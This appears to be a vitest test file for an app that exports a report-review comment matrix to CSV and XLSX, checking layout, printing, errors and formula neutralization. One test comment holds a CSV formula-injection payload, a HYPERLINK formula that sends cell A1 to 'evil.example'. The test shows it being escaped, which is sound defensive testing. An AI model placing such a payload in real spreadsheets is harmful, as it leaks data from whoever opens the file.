import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { exportCommentMatrix, MATRIX_WORDS_EN, neutralizeFormula } from '../../electron/export/comment-matrix.js';
import { tempDir } from './helpers.js';
import { markUpdate, replaceUpdate, reviewReport, typeParagraphs } from './review-helpers.js';

const P1 = 'The Government adopted a national action plan on human rights in 2023.';
const P2 = 'The Ombudsperson received 1,200 complaints, most of them about detention.';
const ARABIC = 'يرجى توضيح عدد الشكاوى التي تمت معالجتها في عام 2024.';
const FRENCH = 'Le Gouvernement a adopté un plan d’action national « droits de l’homme » à l’été 2023.';

const HEADER = ['No.', 'Section', 'Passage', 'Reviewer', 'Organization', 'Type', 'Comment', 'Proposed wording', 'Replies', 'Disposition', 'Rationale', 'Decided by', 'Decided on', 'Status'];

/** Today where the test runs, as the matrix writes dates. */
function today(): string {
  const d = new Date();
  return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
}

/**
 * A review round as it happens: comments on passages and on the whole section, one whose passage
 * the drafter then deleted, replies, every disposition, a closed thread, comments that look like
 * spreadsheet formulas, and Arabic and French text.
 */
async function reviewedReport() {
  const r = await reviewReport();
  await typeParagraphs(r.admin, r.section.id, [P1, P2]);
  const { reviewer, drafter, admin, section } = r;
  const sectionId = section.id;
  await reviewer.call('comments.create', {
    id: 'c-1', sectionId, type: 'substantive', body: 'Name the plan and its period.',
    proposed: 'National Action Plan on Human Rights 2023–2027',
    anchor: await markUpdate(reviewer, sectionId, 'national action plan', 'c-1'),
  });
  await drafter.call('comments.decide', { commentId: 'c-1', disposition: 'accepted' });
  await reviewer.call('comments.create', { id: 'c-2', sectionId, type: 'critical', body: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")' });
  await drafter.call('comments.decide', { commentId: 'c-2', disposition: 'not_accepted', rationale: '-5 is not a rationale, but this is one.' });
  await reviewer.call('comments.create', {
    id: 'c-3', sectionId, type: 'editorial', body: '+1 to the previous comment.',
    anchor: await markUpdate(reviewer, sectionId, '1,200 complaints', 'c-3'),
  });
  await drafter.call('text.push', { sectionId, update: await replaceUpdate(drafter, sectionId, P2, '') });
  await drafter.call('comments.decide', { commentId: 'c-3', disposition: 'accepted_with_modification', rationale: 'Paragraph removed.' });
  await reviewer.call('comments.create', { id: 'c-4', sectionId, type: 'substantive', body: '@SUM(A1:A9) of the complaints?' });
  await drafter.call('comments.reply', { commentId: 'c-4', body: 'The 2024 figures are not published yet.' });
  await reviewer.call('comments.reply', { commentId: 'c-4', body: 'Then say so.' });
  await admin.call('comments.setStatus', { commentId: 'c-4', status: 'closed' });
  await reviewer.call('comments.create', { id: 'c-5', sectionId, type: 'editorial', body: ARABIC, proposed: FRENCH });
  await reviewer.call('comments.create', { id: 'c-6', sectionId, type: 'critical', body: '-5 per cent is not what the survey found.' });
  const title = `A ${section.title}`;
  const d = today();
  const expected = [
    ['1', title, 'national action plan', 'Rita Reviewer', 'National Human Rights Commission', 'Substantive', 'Name the plan and its period.', 'National Action Plan on Human Rights 2023–2027', '', 'Accepted', '', 'Dana Drafter', d, 'Answered'],
    ['2', title, 'Whole section', 'Rita Reviewer', 'National Human Rights Commission', 'Critical', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`, '', '', 'Not accepted', `'-5 is not a rationale, but this is one.`, 'Dana Drafter', d, 'Answered'],
    ['3', title, '[passage deleted] 1,200 complaints', 'Rita Reviewer', 'National Human Rights Commission', 'Editorial', `'+1 to the previous comment.`, '', '', 'Accepted with modification', 'Paragraph removed.', 'Dana Drafter', d, 'Answered'],
    ['4', title, 'Whole section', 'Rita Reviewer', 'National Human Rights Commission', 'Substantive', `'@SUM(A1:A9) of the complaints?`, '', `Dana Drafter (${d}): The 2024 figures are not published yet.\nRita Reviewer (${d}): Then say so.`, '', '', '', '', 'Closed'],
    ['5', title, 'Whole section', 'Rita Reviewer', 'National Human Rights Commission', 'Editorial', ARABIC, FRENCH, '', '', '', '', '', 'Open'],
    ['6', title, 'Whole section', 'Rita Reviewer', 'National Human Rights Commission', 'Critical', `'-5 per cent is not what the survey found.`, '', '', '', '', '', '', 'Open'],
  ];
  return { ...r, expected };
}

/** LibreOffice Calc's own reading of a file, saved as UTF-8 CSV; its own profile, so runs in parallel do not lock. */
async function libreOfficeCsv(xlsx: string): Promise<{ records: string[][]; ms: number }> {
  const outDir = tempDir();
  const profile = tempDir();
  const started = performance.now();
  await promisify(execFile)(
    'libreoffice',
    [`-env:UserInstallation=file://${profile}`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', outDir, xlsx],
    { timeout: 60_000 },
  );
  const ms = performance.now() - started;
  const csv = path.join(outDir, path.basename(xlsx).replace(/\.xlsx$/, '.csv'));
  return { records: parse(fs.readFileSync(csv), { bom: true }) as string[][], ms };
}

describe('the comment resolution matrix', () => {
  it('as CSV: a byte order mark, CRLF line ends, the header, one row per comment in number order, formulas neutralized', async () => {
    const r = await reviewedReport();
    const file = path.join(tempDir(), 'matrix.csv');
    expect(await r.observer.call('comments.export', { format: 'csv', path: file })).toEqual({ path: file, rows: 6 });
    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.slice(1, text.indexOf('\r\n'))).toBe(HEADER.join(','));
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parse(bytes, { bom: true }) as string[][];
    expect(records).toEqual([HEADER, ...r.expected]);
    // A spreadsheet reading the file sees text, never a formula.
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('as XLSX: LibreOffice reads the same rows, formulas as text; header bold, frozen and filtered; widths and wrapping', async () => {
    const r = await reviewedReport();
    const file = path.join(tempDir(), 'matrix.xlsx');
    expect(await r.admin.call('comments.export', { format: 'xlsx', path: file })).toEqual({ path: file, rows: 6 });

    const lo = await libreOfficeCsv(file);
    console.info(`LibreOffice converted the matrix in ${Math.round(lo.ms)} ms`);
    expect(lo.records).toEqual([HEADER, ...r.expected]);

    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    expect(book.title).toBe((await r.admin.call('workspace.load')).report.title);
    const sheet = book.getWorksheet('Comments')!;
    expect(sheet.rowCount).toBe(7);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.getRow(1).getCell(14).font?.bold).toBe(true);
    expect(sheet.getRow(2).getCell(7).font?.bold).toBeFalsy();
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:N7');
    expect(sheet.getColumn(1).width).toBe(6);
    expect(sheet.getColumn(7).width).toBe(50);
    expect(sheet.getCell('G3').alignment).toMatchObject({ wrapText: true, vertical: 'top' });
    expect(sheet.getCell('I5').alignment).toMatchObject({ wrapText: true, vertical: 'top' });
    expect(sheet.getCell('A2').value).toBe(1);
    for (let row = 2; row <= 7; row++) {
      for (let col = 2; col <= 14; col++) {
        const cell = sheet.getRow(row).getCell(col);
        expect(cell.formula).toBeUndefined();
        if (cell.value !== null) expect(typeof cell.value).toBe('string');
      }
    }
    expect(sheet.getCell('G3').value).toBe(r.expected[1]![6]);
    expect(sheet.getCell('G6').value).toBe(ARABIC);
    // Printed landscape, every column fitted to the page's width, the header row on every page.
    expect(sheet.pageSetup).toMatchObject({ orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '1:1' });
  }, 90_000);

  it('prints in LibreOffice as one landscape page across, not one column a page', async () => {
    const r = await reviewedReport();
    const file = path.join(tempDir(), 'matrix.xlsx');
    await r.admin.call('comments.export', { format: 'xlsx', path: file });
    const outDir = tempDir();
    const profile = tempDir();
    await promisify(execFile)('libreoffice', [`-env:UserInstallation=file://${profile}`, '--headless', '--convert-to', 'pdf', '--outdir', outDir, file], { timeout: 60_000 });
    const info = (await promisify(execFile)('pdfinfo', [path.join(outDir, 'matrix.pdf')])).stdout;
    const [width, height] = /Page size:\s+([\d.]+) x ([\d.]+)/.exec(info)!.slice(1).map(Number);
    expect(width).toBeGreaterThan(height!);
    expect(Number(/Pages:\s+(\d+)/.exec(info)![1])).toBe(1);
    // Every column's header is on that one page.
    const text = (await promisify(execFile)('pdftotext', ['-layout', path.join(outDir, 'matrix.pdf'), '-'])).stdout;
    for (const header of ['No.', 'Section', 'Disposition', 'Status']) expect(text).toContain(header);
  }, 90_000);

  it('replaces an earlier export whole, and leaves nothing behind', async () => {
    const r = await reviewedReport();
    const dir = tempDir();
    const file = path.join(dir, 'matrix.xlsx');
    fs.writeFileSync(file, 'last week’s matrix');
    await r.admin.call('comments.export', { format: 'xlsx', path: file });
    expect(fs.readFileSync(file).subarray(0, 2).toString()).toBe('PK');
    expect(fs.readdirSync(dir)).toEqual(['matrix.xlsx']);
  });

  it('a folder that does not exist, or a folder in the way, is said in words; nothing is written', async () => {
    const r = await reviewedReport();
    const dir = tempDir();
    const nowhere = path.join(dir, 'no such folder', 'matrix.csv');
    expect(await r.admin.reply('comments.export', { format: 'csv', path: nowhere })).toMatchObject({
      ok: false,
      error: { code: 'io', message: `Cannot write ${nowhere}: the folder ${path.dirname(nowhere)} does not exist.` },
    });
    fs.mkdirSync(path.join(dir, 'matrix.xlsx'));
    const folder = path.join(dir, 'matrix.xlsx');
    expect(await r.admin.reply('comments.export', { format: 'xlsx', path: folder })).toMatchObject({
      ok: false,
      error: { code: 'io', message: `Cannot write ${folder}: there is a folder of that name.` },
    });
    expect(fs.readdirSync(dir)).toEqual(['matrix.xlsx']);
    expect(fs.readdirSync(folder)).toEqual([]);
  });

  it('a sheet name Excel would refuse (in a translation, say) is made one it accepts', async () => {
    const r = await reviewedReport();
    const file = path.join(tempDir(), 'matrix.xlsx');
    await exportCommentMatrix(r.admin.client.report!.db, 'xlsx', file, { ...MATRIX_WORDS_EN, sheet: 'Comments/2026: [draft] of the national report' });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    expect(book.worksheets.map((w) => w.name)).toEqual(['Comments 2026 draft of the nati']);
  });

  it('neutralizes every start a spreadsheet takes for a formula, and nothing else', () => {
    for (const s of ['=1+1', '+1', '-5', '@SUM(A1)', '\tx', '\rx']) expect(neutralizeFormula(s)).toBe(`'${s}`);
    for (const s of ['', 'Plain', ' =1', '1-5', 'x=1', '’quoted’']) expect(neutralizeFormula(s)).toBe(s);
  });
});
